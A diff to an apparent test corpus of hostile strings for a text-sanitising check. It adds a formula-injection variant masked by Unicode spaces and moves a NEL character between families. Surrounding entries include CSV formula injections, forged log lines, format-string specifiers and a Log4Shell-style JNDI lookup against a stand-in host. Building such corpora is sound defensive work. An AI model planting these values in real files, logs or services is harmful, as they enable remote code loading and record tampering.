@@ -75,6 +75,7 @@ CORPUS: Final[dict[str, tuple[str, ...]]] = {
         "\r=1+1",
         "\n=1+1",
         "  =1+1",
+        "\u00a0\u2003=1+1",
         "a\",=1+1,\"b",
         "a\r\n=1+1",
         "\uff1d1+1",
@@ -125,7 +126,7 @@ CORPUS: Final[dict[str, tuple[str, ...]]] = {
     "log": (
         "x\n{\"event\": \"xqz.forged\", \"level\": \"info\"}",
         "x\r127.0.0.1 - - GET /xqz 200",
-        "xqz\u2028forged\u2029\u0085line",
+        "xqz\u2028forged\u2029line",
         "x %s %d %n",
         "${jndi:ldap://xqz.example/a}",
     ),
@@ -153,6 +154,7 @@ CORPUS: Final[dict[str, tuple[str, ...]]] = {
         "\ud800",
         "\uffff",
         "\x9b31mxqz",
+        "x\u0085xqz",
     ),
 }  # fmt: skip
 """Strings by family. Those that are never text are refused wherever text is asked for."""
